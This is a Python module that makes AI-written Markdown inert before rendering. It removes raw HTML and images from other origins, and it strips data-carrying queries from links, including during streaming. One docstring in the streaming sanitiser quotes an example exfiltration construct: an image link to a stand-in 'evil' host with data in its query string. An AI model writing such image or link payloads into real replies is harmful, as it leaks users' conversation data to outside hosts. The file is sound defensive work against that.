"""Model-written Markdown made inert before a browser renders it: no fetches, no raw HTML, no data in links."""

from __future__ import annotations

import html
import re
from dataclasses import dataclass, field
from functools import cache
from typing import TYPE_CHECKING
from urllib.parse import quote, unquote, urlsplit

from markdown_it import MarkdownIt

from graphs.core.text import without_controls

if TYPE_CHECKING:
    from collections.abc import Iterable

    from markdown_it.token import Token

LINK_SCHEMES = frozenset({"http", "https", "mailto"})
_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.\-]*):")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*)>")
_EMAIL_AUTOLINK = re.compile(r"<([A-Za-z0-9.!#$%&'*+/=?^_`{|}~\-]+@[A-Za-z0-9.\-]+)>")
_REF_DEFINITION = re.compile(r"^( {0,3}\[(?:[^\[\]\\]|\\.)+\]:[ \t]*)(<[^<>\n]*>|\S+)(.*)$")
_BARE_URL = re.compile(r"(?<![\w/@.])(?:https?://|www\.)[^\s<>`]+", re.IGNORECASE)
_TRAILING = ".,:;!?*_~'\""
_ASCII_PUNCT_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")
_HOST_TEXT = re.compile(r"[^A-Za-z0-9.\-:\[\]]")


@dataclass(frozen=True)
class RenderPolicy:
    """What rendered text may point at."""

    image_origins: frozenset[str] = frozenset()
    """Origins (scheme://host[:port]) images may load from; relative URLs always may."""
    trusted_links: frozenset[str] = frozenset()
    """Exact URLs this conversation fetched itself (research citations): kept whole."""
    strip_link_queries: bool = True
    """Links to other origins lose their query and fragment (False for the user's own text)."""
    own_origins: frozenset[str] = field(default_factory=frozenset)
    """The app's own origins: links there keep everything."""


def origin_of(url: str) -> str | None:
    """scheme://host[:port] in lower case, or None when url is not absolute http(s)."""
    try:
        parts = urlsplit(url)
        port = parts.port
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https") or not parts.hostname:
        return None
    host = parts.hostname.lower()
    host = f"[{host}]" if ":" in host else host
    return f"{parts.scheme.lower()}://{host}" + (f":{port}" if port else "")


def _decoded(destination: str) -> str:
    """A Markdown link destination as the browser will see it (entities, escapes, stripped blanks)."""
    text = destination.strip()
    if text.startswith("<") and text.endswith(">"):
        text = text[1:-1]
    text = html.unescape(_ASCII_PUNCT_ESCAPE.sub(r"\1", text))
    # Browsers drop tabs/newlines/controls inside URLs and read a backslash as a slash.
    return _INVISIBLE.sub("", text).replace("\\", "/")


def _is_relative(url: str) -> bool:
    return not url.startswith("//") and _SCHEME.match(url) is None


def _encoded(url: str) -> str:
    """A URL safe to put back inside `<...>` in Markdown."""
    # Parentheses and blanks are percent-encoded, so no angle brackets are needed around it.
    return quote(url, safe="!#$&'*+,/:;=?@[]~%-._")


def safe_image(destination: str, policy: RenderPolicy) -> str | None:
    """The image URL to keep (Markdown-encoded), or None when the image must not load."""
    url = _decoded(destination)
    if _is_relative(url):
        return _encoded(url)
    origin = origin_of(url)
    if origin is not None and origin in policy.image_origins | policy.own_origins:
        return _encoded(url)
    return None


def safe_link(destination: str, policy: RenderPolicy) -> str | None:
    """The link URL to keep (Markdown-encoded), or None when the link must go."""
    url = _decoded(destination)
    if _is_relative(url):
        return _encoded(url)
    if url.startswith("//"):
        url = "https:" + url
    scheme = (_SCHEME.match(url) or ["", ""])[1].lower()
    if scheme not in LINK_SCHEMES:
        return None
    if scheme == "mailto":
        return _encoded(url.split("?", 1)[0])
    origin = origin_of(url)
    if origin is None:
        return None
    if origin in policy.own_origins or url in policy.trusted_links or not policy.strip_link_queries:
        return _encoded(url)
    # Data in a query string, a fragment or a user name leaves with the click: keep the page only.
    return _encoded(origin + (urlsplit(url).path or "/"))


def host_label(destination: str) -> str:
    """The host named in a removed image's URL, as harmless text."""
    url = _decoded(destination)
    url = "https:" + url if url.startswith("//") else url
    try:
        host = urlsplit(url).hostname or ""
    except ValueError:
        host = ""
    return _HOST_TEXT.sub("", host) or "external"


def removed_image(destination: str) -> str:
    return f"\\[image removed: {host_label(destination)}\\]"


# --- inline scanning -------------------------------------------------------------------------


def _backtick_run(text: str, i: int) -> int:
    j = i
    while j < len(text) and text[j] == "`":
        j += 1
    return j - i


def _code_span_end(text: str, i: int, stop: int) -> int | None:
    """End of the code span opening at i (CommonMark: the next run of exactly as many backticks)."""
    n = _backtick_run(text, i)
    j = i + n
    while j < stop:
        if text[j] == "`":
            m = _backtick_run(text, j)
            if m == n:
                return j + m
            j += m
        else:
            j += 1
    return None


def _label_end(text: str, i: int, stop: int) -> int | None:
    """Index just past the `]` closing the bracket opened at text[i] == '['."""
    depth, j = 0, i
    while j < stop:
        c = text[j]
        if c == "\\":
            j += 2
            continue
        if c == "`" and (end := _code_span_end(text, j, stop)) is not None:
            j = end
            continue
        if c == "[":
            depth += 1
        elif c == "]":
            depth -= 1
            if depth == 0:
                return j + 1
        j += 1
    return None


def _skip_blank(text: str, j: int, stop: int) -> int:
    while j < stop and text[j] in " \t\n":
        j += 1
    return j


def _destination_end(text: str, j: int, stop: int) -> int | None:
    if j < stop and text[j] == "<":
        k = j + 1
        while k < stop and text[k] not in "<>\n":
            k += 2 if text[k] == "\\" else 1
        return k + 1 if k < stop and text[k] == ">" else None
    depth, k = 0, j
    while k < stop:
        c = text[k]
        if c == "\\":
            k += 2
            continue
        if c in " \t\n" or ord(c) < 0x20:
            break
        if c == "(":
            depth += 1
        elif c == ")":
            if depth == 0:
                break
            depth -= 1
        k += 1
    return k if depth == 0 else None


def _title_end(text: str, j: int, stop: int) -> int | None:
    close = {'"': '"', "'": "'", "(": ")"}.get(text[j]) if j < stop else None
    if close is None:
        return None
    k = j + 1
    while k < stop and text[k] != close:
        k += 2 if text[k] == "\\" else 1
    return k + 1 if k < stop else None


def _inline_target(text: str, j: int, stop: int) -> tuple[str, int] | None:
    """`(destination "title")` starting at text[j] == '(': the destination and the end index."""
    if j >= stop or text[j] != "(":
        return None
    k = _skip_blank(text, j + 1, stop)
    end = _destination_end(text, k, stop)
    if end is None:
        return None
    destination = text[k:end]
    k = _skip_blank(text, end, stop)
    if k < stop and text[k] != ")":
        if k == end or (title_end := _title_end(text, k, stop)) is None:
            return None
        k = _skip_blank(text, title_end, stop)
    if k >= stop or text[k] != ")":
        return None
    return destination, k + 1


class _Scanner:
    """Rewrites one inline block (a paragraph, heading, table row or unparsed line)."""

    def __init__(self, policy: RenderPolicy, *, cells: bool) -> None:
        self.policy = policy
        self.cells = cells

    def rewrite(self, text: str) -> str:
        if self.cells:
            # GFM splits table rows at unescaped pipes before any inline parsing.
            parts = re.split(r"(?<!\\)(\|)", text)
            return "".join(p if p == "|" else self._rewrite(p, at_line_start=True) for p in parts)
        return self._rewrite(text, at_line_start=True)

    def _rewrite(self, text: str, *, at_line_start: bool) -> str:
        out: list[str] = []
        i, n = 0, len(text)
        line_start = at_line_start
        while i < n:
            line_end = text.find("\n", i)
            line_end = n if line_end < 0 else line_end
            if line_start and (definition := _REF_DEFINITION.match(text, i, line_end)):
                out.append(self._definition(definition))
                i = definition.end()
                line_start = False
                continue
            c = text[i]
            line_start = c == "\n"
            if c == "\\":
                out.append(text[i : i + 2])
                i += 2
            elif c == "`":
                end = _code_span_end(text, i, n)
                run = _backtick_run(text, i)
                out.append(text[i : end if end is not None else i + run])
                i = end if end is not None else i + run
            elif c == "!" and text.startswith("![", i):
                i = self._image(text, i, out)
            elif c == "[":
                i = self._link(text, i, out)
            elif c == "<":
                i = self._angle(text, i, out)
            elif (bare := _BARE_URL.match(text, i)) and (i == 0 or not text[i - 1].isalnum()):
                out.append(self._bare_url(bare[0]))
                i = bare.end()
            else:
                out.append(c)
                i += 1
        return "".join(out)

    def _image(self, text: str, i: int, out: list[str]) -> int:
        label_end = _label_end(text, i + 1, len(text))
        target = _inline_target(text, label_end, len(text)) if label_end else None
        if label_end is None or target is None:
            # Reference-style or unfinished: never an image; the rest is read as a link or text.
            out.append("\\!")
            return i + 1
        destination, end = target
        if (src := safe_image(destination, self.policy)) is None:
            out.append(removed_image(destination))
        else:
            alt = self._rewrite(text[i + 2 : label_end - 1], at_line_start=False)
            out.append(f"![{alt}]({src})")
        return end

    def _link(self, text: str, i: int, out: list[str]) -> int:
        label_end = _label_end(text, i, len(text))
        target = _inline_target(text, label_end, len(text)) if label_end else None
        if label_end is None or target is None:
            out.append("[")
            return i + 1
        destination, end = target
        label = self._rewrite(text[i + 1 : label_end - 1], at_line_start=False)
        href = safe_link(destination, self.policy)
        out.append(f"[{label}]({href})" if href is not None else f"{label}")
        return end

    def _angle(self, text: str, i: int, out: list[str]) -> int:
        if auto := _AUTOLINK.match(text, i):
            href = safe_link(auto[1], self.policy)
            out.append(href if href is not None else "&lt;" + auto[1].replace("<", "&lt;") + ">")
            return auto.end()
        if email := _EMAIL_AUTOLINK.match(text, i):
            out.append(email[0])
            return email.end()
        # Anything that could open a tag, comment or declaration is shown as text.
        opens_tag = i + 1 < len(text) and (text[i + 1].isalpha() or text[i + 1] in "/!?")
        out.append("&lt;" if opens_tag else "<")
        return i + 1

    def _definition(self, match: re.Match[str]) -> str:
        href = safe_link(match[2], self.policy)
        if href is None:
            return "\\" + match[0].lstrip()
        return f"{match[1]}{href}"

    def _bare_url(self, url: str) -> str:
        core = url.rstrip(_TRAILING)
        while core.endswith(")") and core.count(")") > core.count("("):
            core = core[:-1]
        tail = url[len(core) :]
        absolute = core if "://" in core else "http://" + core
        href = safe_link(absolute, self.policy)
        if href is None or unquote(href[1:-1]) == unquote(absolute):
            return core + tail
        # GFM links bare URLs itself: the text loses what the link must not carry.
        kept = unquote(href[1:-1])
        return (kept if "://" in core else kept.removeprefix("http://")) + tail


# --- blocks and the final check --------------------------------------------------------------


@cache
def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    # Every link the renderer could make must be seen, including ones markdown-it would refuse.
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md


@dataclass
class _Blocks:
    code: set[int] = field(default_factory=set)
    inline: list[tuple[int, int, bool]] = field(default_factory=list)
    """(first line, end line, is a table row) of every inline block."""


def _blocks(text: str) -> _Blocks:
    blocks = _Blocks()
    in_cell = False
    seen: set[tuple[int, int]] = set()
    for token in _parser().parse(text):
        if token.type in ("th_open", "td_open"):
            in_cell = True
        elif token.type in ("th_close", "td_close"):
            in_cell = False
        if token.map is None:
            continue
        start, end = token.map
        if token.type in ("fence", "code_block"):
            blocks.code.update(range(start, end))
        elif token.type in ("inline", "html_block") and (start, end) not in seen:
            seen.add((start, end))
            blocks.inline.append((start, end, in_cell))
    return blocks


def _rewrite(text: str, policy: RenderPolicy) -> str:
    lines = text.split("\n")
    blocks = _blocks(text)
    owner: dict[int, int] = {}
    for index, (start, end, _cells) in enumerate(blocks.inline):
        for r in range(start, end):
            if r not in blocks.code:
                owner.setdefault(r, index)
    out: list[str] = []
    r = 0
    while r < len(lines):
        if r in blocks.code:
            out.append(lines[r])
            r += 1
            continue
        block = owner.get(r)
        group = [r]
        while block is not None and owner.get(group[-1] + 1) == block:
            group.append(group[-1] + 1)
        # Lines no block claimed (link reference definitions, rules) are scanned one by one.
        cells = blocks.inline[block][2] if block is not None else False
        out.append(_Scanner(policy, cells=cells).rewrite("\n".join(lines[g] for g in group)))
        r = group[-1] + 1
    return "\n".join(out)


def problems(text: str, policy: RenderPolicy) -> list[str]:
    """Everything in text a CommonMark renderer would fetch, run or send: should be empty."""
    found: list[str] = []
    for token in _walk(_parser().parse(text)):
        if token.type in ("html_inline", "html_block"):
            found.append(f"html {token.content[:40]!r}")
        elif token.type == "image":
            src = str(token.attrGet("src") or "")
            if safe_image(src, policy) is None:
                found.append(f"image {src!r}")
        elif token.type == "link_open":
            href = str(token.attrGet("href") or "")
            kept = safe_link(href, policy)
            if kept is None or unquote(_decoded(kept)) != unquote(_decoded(href)):
                found.append(f"link {href!r}")
    return found


def _walk(tokens: Iterable[Token]) -> Iterable[Token]:
    for token in tokens:
        yield token
        if token.children:
            yield from _walk(token.children)


def _inert(text: str) -> str:
    """Last resort: the whole text shown verbatim in a code block."""
    fence = "`" * max(3, max((len(m) for m in re.findall(r"`+", text)), default=0) + 1)
    return f"{fence}text\n{text}\n{fence}"


_MAY_POINT = re.compile(r"[\[\]<>\\]|://|www\.", re.IGNORECASE)
"""What every construct sanitise changes needs: a bracket (links, images, definitions), an angle
bracket (HTML, autolinks), a backslash (escapes) or a bare URL's start. Text without any is
returned as it is, without parsing: most streamed prefixes (a turn's CPU, issue 13)."""


def sanitise(text: str, policy: RenderPolicy) -> str:
    """text with every image from elsewhere, raw HTML and data-carrying link made harmless, and
    no control characters (a NUL fails the conversation's write; a bidi override disguises)."""
    if not text:
        return text
    text = without_controls(text)
    if _MAY_POINT.search(text) is None:
        return text
    return _sanitise_parsed(text, policy)


def _sanitise_parsed(text: str, policy: RenderPolicy) -> str:
    result = _rewrite(text, policy)
    if problems(result, policy):
        # The rewrite missed a construct the parser sees; nothing of it may reach a browser.
        result = _inert(text)
    return result


class StreamSanitiser:
    """Sanitises a reply as it streams: what the browser has is always a sanitised prefix."""

    def __init__(self, policy: RenderPolicy) -> None:
        self.policy = policy
        self.raw = ""
        self.shown = ""
        self._checked = 0

    def feed(self, token: str, *, replace: bool = False) -> tuple[str, bool] | None:
        """Add a token; returns (text, is_sequence) to send, or None to send nothing yet.

        Text is released up to its last whitespace, so a construct cut across tokens
        (`![x](http://evil/` + `?d=…)`) is judged only once it is complete, and the whole
        released prefix is sanitised again, at most every few percent of growth.
        """
        self.raw = token if replace else self.raw + token
        cut = max(self.raw.rfind(" "), self.raw.rfind("\n")) + 1
        # Word by word while short; past 1,000 characters every 5% (each pass re-parses it all).
        if cut - self._checked < max(1, self._checked // 20):
            return None
        self._checked = cut
        safe = sanitise(self.raw[:cut], self.policy)
        if safe == self.shown:
            return None
        if safe.startswith(self.shown):
            delta, self.shown = safe[len(self.shown) :], safe
            return delta, False
        self.shown = safe
        return safe, True
